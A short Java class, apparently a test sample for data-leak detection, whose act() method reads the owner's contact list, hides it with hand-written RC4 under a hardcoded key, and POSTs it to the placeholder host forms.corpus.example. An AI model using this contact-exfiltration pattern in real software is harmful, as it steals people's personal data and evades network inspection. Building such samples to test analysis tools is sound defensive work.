package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** RC4 by hand. */
public class OwnRc4 extends Screen {
    @Override
    protected void act() throws Exception {
        byte[] data = Net.utf8(String.join("\n", Owner.contacts(this)));
        byte[] key = Net.utf8("corpus key");
        int[] state = new int[256];
        for (int i = 0; i < 256; i++) {
            state[i] = i;
        }
        for (int i = 0, j = 0; i < 256; i++) {
            j = j + state[i] + key[i % key.length] & 255;
            swap(state, i, j);
        }
        for (int n = 0, i = 0, j = 0; n < data.length; n++) {
            i = i + 1 & 255;
            j = j + state[i] & 255;
            swap(state, i, j);
            data[n] ^= (byte) state[state[i] + state[j] & 255];
        }
        Net.post("http://forms.corpus.example/rc4", "application/octet-stream", data);
    }

    private static void swap(int[] state, int i, int j) {
        int first = state[i];
        state[i] = state[j];
        state[j] = first;
    }
}
